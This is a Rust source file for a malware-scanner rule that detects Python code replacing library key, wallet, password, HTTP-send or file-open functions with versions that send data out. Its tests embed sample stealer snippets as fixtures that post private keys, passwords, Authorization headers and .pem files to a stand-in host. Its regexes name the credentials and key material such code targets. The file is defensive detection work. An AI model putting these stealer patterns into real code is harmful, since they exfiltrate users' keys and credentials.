//! WH260 api-hijack: replacing a library's key, wallet or password function with one of the
//! module's own that talks to the network.

use std::sync::LazyLock;

use regex::Regex;
use ruff_python_ast::{Expr, ExprCall};
use ruff_text_size::{Ranged, TextRange};

use crate::finding::{Category, ExecContext, Rule};
use crate::walker::Checker;

/// The detector.
pub const RULE: Rule = Rule {
    id: "WH260",
    name: "api-hijack",
    description: "Replaces an imported library's key, wallet, seed or password function, an HTTP client's send, or the builtin open with a function of its own that sends data over the network",
    rationale: "Wallet stealers of 2024–2025 (Solana and Ethereum helper packages) leave the \
                victim's code alone and patch the library it calls: `Keypair.from_bytes`, \
                `Account.create`, `getpass.getpass` now also send the key they see. Nothing \
                runs at install or import but the patch, so no flow is visible there. \
                Instrumentation libraries patch HTTP and database clients, never key \
                constructors, so the target's name decides together with the network call \
                inside the replacement.",
    category: Category::Sink,
};

/// Names of attributes or classes that hold or make key material or passwords.
static KEY_MATERIAL: LazyLock<Regex> = crate::static_regex!(
    r"(?i)(keypair|private_?key|secret_?key|from_?key|from_?seed|seed|mnemonic|wallet|passphrase|getpass|password|from_bytes|from_base58|from_json|account\.(create|from|sign|encrypt|decrypt|privatekey)|sign_transaction|signer|bip(32|39|44)|wif)"
);

/// An HTTP client's sending function (`requests.Session.send`, `httpx.Client.send`,
/// `urllib.request.urlopen`): tracing libraries wrap these, and so do header stealers.
static HTTP_CLIENT_SEND: LazyLock<Regex> = crate::static_regex!(
    r"(?i)^(requests(\.sessions)?\.Session\.(send|request)|requests\.(api\.)?request|httpx\.(Client|AsyncClient)\.(send|request)|urllib\.request\.(urlopen|OpenerDirector\.open)|http\.client\.HTTPS?Connection\.(request|putheader)|aiohttp\.ClientSession\._request)$"
);

/// The functions every file read goes through (`builtins.open`, `io.open`, `Path.read_text`):
/// a replacement that sends sees every secret file the program opens.
static FILE_OPEN: LazyLock<Regex> = crate::static_regex!(
    r"^(open|builtins\.open|io\.open|os\.open|pathlib\.Path\.(open|read_text|read_bytes))$"
);

/// The credentials a request carries, as a replacement reads them from it.
static CREDENTIAL_HEADER: LazyLock<Regex> = crate::static_regex!(
    r#"(?i)["'](authorization|proxy-authorization|cookie|x-api-key|x-auth-token)["']"#
);

/// What a replaced function handles.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Handles {
    /// Keys, seeds or passwords ([`KEY_MATERIAL`]).
    KeyMaterial,
    /// Every request an HTTP client sends ([`HTTP_CLIENT_SEND`]), and the credentials in it.
    Requests,
    /// Every file the program opens ([`FILE_OPEN`]).
    Files,
}

/// A replacement noted while walking, judged once the module's findings are in.
#[derive(Debug, Clone)]
pub struct PendingPatch {
    /// The replaced attribute, as resolved (`solders.keypair.Keypair.from_bytes`).
    pub target: String,
    /// The module-level function put in its place.
    pub function: String,
    /// Where the replacement is made.
    pub range: TextRange,
    /// When the replacement is made.
    pub context: ExecContext,
    /// What the replaced function handles.
    pub handles: Handles,
}

/// The module function a replacement value stands for: `f`, `staticmethod(f)`,
/// `classmethod(f)`, `functools.wraps(orig)(f)`.
fn replacement_function(checker: &Checker, value: &Expr) -> Option<String> {
    match value {
        Expr::Name(name) if checker.is_module_function(name.id.as_str()) => {
            Some(name.id.to_string())
        }
        Expr::Call(call) => {
            let wrapper = checker.qualname(&call.func).unwrap_or_default();
            let wraps = matches!(wrapper.as_str(), "staticmethod" | "classmethod")
                || matches!(&*call.func, Expr::Call(inner)
                    if checker.qualname(&inner.func).is_some_and(|q| q.ends_with("wraps")));
            if !wraps {
                return None;
            }
            replacement_function(checker, call.arguments.args.first()?)
        }
        _ => None,
    }
}

/// The resolved name of `owner.attribute` when `owner` is something imported (not one of the
/// module's own classes) and the name is about key material or sends HTTP requests.
fn hijacked_target(checker: &Checker, owner: &Expr, attribute: &str) -> Option<(String, Handles)> {
    let mut root = owner;
    while let Expr::Attribute(inner) = root {
        root = &inner.value;
    }
    let Expr::Name(root) = root else {
        return None;
    };
    checker.scopes.alias(root.id.as_str())?;
    let owner = checker.qualname(owner)?;
    let target = format!("{owner}.{attribute}");
    if HTTP_CLIENT_SEND.is_match(&target) {
        Some((target, Handles::Requests))
    } else if FILE_OPEN.is_match(&target) {
        Some((target, Handles::Files))
    } else if KEY_MATERIAL.is_match(&target) {
        Some((target, Handles::KeyMaterial))
    } else {
        None
    }
}

/// `Keypair.from_bytes = staticmethod(_patched)`: notes the replacement for
/// [`check_pending`].
pub fn check_assignment(checker: &mut Checker, target: &Expr, value: &Expr, range: TextRange) {
    let Expr::Attribute(attribute) = target else {
        return;
    };
    note_replacement(
        checker,
        &attribute.value,
        attribute.attr.as_str(),
        value,
        range,
    );
}

/// Notes `owner.attribute = value` when it replaces key material with a module function.
fn note_replacement(
    checker: &mut Checker,
    owner: &Expr,
    attribute: &str,
    value: &Expr,
    range: TextRange,
) {
    let Some((target, handles)) = hijacked_target(checker, owner, attribute) else {
        return;
    };
    let Some(function) = replacement_function(checker, value) else {
        return;
    };
    let context = checker.context();
    checker.note_patch(PendingPatch {
        target,
        function,
        range,
        context,
        handles,
    });
}

/// `setattr(Keypair, 'from_bytes', _patched)`: as the assignment.
pub fn check_call(checker: &mut Checker, call: &ExprCall, qualname: &str) {
    if qualname != "setattr" {
        return;
    }
    let [owner, name, value, ..] = call.arguments.args.as_ref() else {
        return;
    };
    let Some(attribute) = checker.fold(name).and_then(|v| v.as_text()) else {
        return;
    };
    note_replacement(checker, owner, &attribute, value, call.range());
}

/// After the walk: each noted replacement whose function sends or fetches (a WH130 finding
/// inside it) is reported where the replacement is made. A replaced HTTP client must also
/// read a request's credentials: tracers send timings, stealers send the headers.
pub fn check_pending(checker: &mut Checker) {
    for patch in checker.take_patches() {
        let Some(def_line) = checker.module_function_line(&patch.function) else {
            continue;
        };
        if patch.handles == Handles::Requests
            && !checker
                .module_function_text(&patch.function)
                .is_some_and(|text| CREDENTIAL_HEADER.is_match(text))
        {
            continue;
        }
        let Some(send) = checker
            .findings
            .iter()
            .find(|f| f.rule == "WH130" && f.scope == def_line)
            .map(|f| format!("{} ({})", f.message, f.location()))
        else {
            continue;
        };
        let severity = match patch.context {
            ExecContext::Install | ExecContext::Import => 0.9,
            ExecContext::Runtime => 0.6,
            ExecContext::TestOrDocs => 0.1,
        };
        checker.report(
            &RULE,
            patch.range,
            format!(
                "replaces {} with {}, which {}: every {} goes out with it",
                patch.target,
                patch.function,
                crate::text::shorten(&send, 140),
                match patch.handles {
                    Handles::KeyMaterial => "key or password the library handles",
                    Handles::Requests => "credential header the client sends",
                    Handles::Files => "file the program opens",
                }
            ),
            severity,
            vec!["api-hijack"],
        );
    }
}

#[cfg(test)]
mod tests {
    use crate::rules::testing::max_severity;

    const PATCH: &str = "import requests\nfrom solders.keypair import Keypair\n_orig = Keypair.from_bytes\n\ndef _patched(raw):\n    kp = _orig(raw)\n    requests.post('https://x.invalid/log', json={'k': bytes(raw).hex()})\n    return kp\n\nKeypair.from_bytes = staticmethod(_patched)\n";

    #[test]
    fn key_constructors_replaced_by_senders_are_hijacked() {
        assert!(max_severity("p/pkg/__init__.py", PATCH, "WH260") >= 0.9);
        let setattr = PATCH.replace(
            "Keypair.from_bytes = staticmethod(_patched)",
            "setattr(Keypair, 'from_bytes', _patched)",
        );
        assert!(max_severity("p/pkg/__init__.py", &setattr, "WH260") >= 0.9);
        let getpass = "import getpass, urllib.request\n_real = getpass.getpass\ndef _grab(prompt='Password: '):\n    p = _real(prompt)\n    urllib.request.urlopen('https://x.invalid/p', data=p.encode())\n    return p\ngetpass.getpass = _grab\n";
        assert!(max_severity("p/pkg/__init__.py", getpass, "WH260") >= 0.9);
        let headers = "import requests\n_orig = requests.Session.send\ndef _send(self, request, **kw):\n    auth = request.headers.get('Authorization')\n    if auth:\n        requests.post('https://x.invalid/h', data={'u': request.url, 'a': auth})\n    return _orig(self, request, **kw)\nrequests.Session.send = _send\n";
        assert!(max_severity("p/pkg/__init__.py", headers, "WH260") >= 0.9);
        let opener = "import builtins, requests\n_real = builtins.open\ndef _open(f, mode='r', *a, **k):\n    h = _real(f, mode, *a, **k)\n    if str(f).endswith('.pem'):\n        requests.post('https://x.invalid/o', data=_real(f, 'rb').read())\n    return h\nbuiltins.open = _open\n";
        assert!(max_severity("p/pkg/__init__.py", opener, "WH260") >= 0.9);
        // A fake file system for tests patches open and sends nothing.
        let fake = "import builtins, io\n_files = {}\ndef _open(f, mode='r', *a, **k):\n    return io.StringIO(_files.get(f, ''))\nbuiltins.open = _open\n";
        assert!(max_severity("p/pkg/__init__.py", fake, "WH260") < 0.1);
    }

    #[test]
    fn instrumentation_and_quiet_patches_are_not_hijacks() {
        // Tracing libraries wrap HTTP clients, whose original sends.
        let tracing = "import requests\n_send = requests.Session.send\ndef _traced(self, request, **kw):\n    return _send(self, request, **kw)\nrequests.Session.send = _traced\n";
        assert!(max_severity("p/pkg/__init__.py", tracing, "WH260") < 0.1);
        // A tracer reporting spans, with no credential read.
        let spans = "import requests\n_send = requests.Session.send\ndef _traced(self, request, **kw):\n    r = _send(self, request, **kw)\n    requests.post('https://collector.example/spans', json={'url': request.url})\n    return r\nrequests.Session.send = _traced\n";
        assert!(max_severity("p/pkg/__init__.py", spans, "WH260") < 0.1);
        // A key patch that sends nothing (a compatibility shim).
        let shim = "from solders.keypair import Keypair\ndef _from_bytes(raw):\n    return Keypair.from_seed(bytes(raw)[:32])\nKeypair.from_bytes = staticmethod(_from_bytes)\n";
        assert!(max_severity("p/pkg/__init__.py", shim, "WH260") < 0.1);
        // The module's own class.
        let own = "import requests\nclass Wallet:\n    pass\ndef _save(self):\n    requests.post('https://api.example.invalid/w', json={})\nWallet.save_key = _save\n";
        assert!(max_severity("p/pkg/__init__.py", own, "WH260") < 0.1);
    }
}
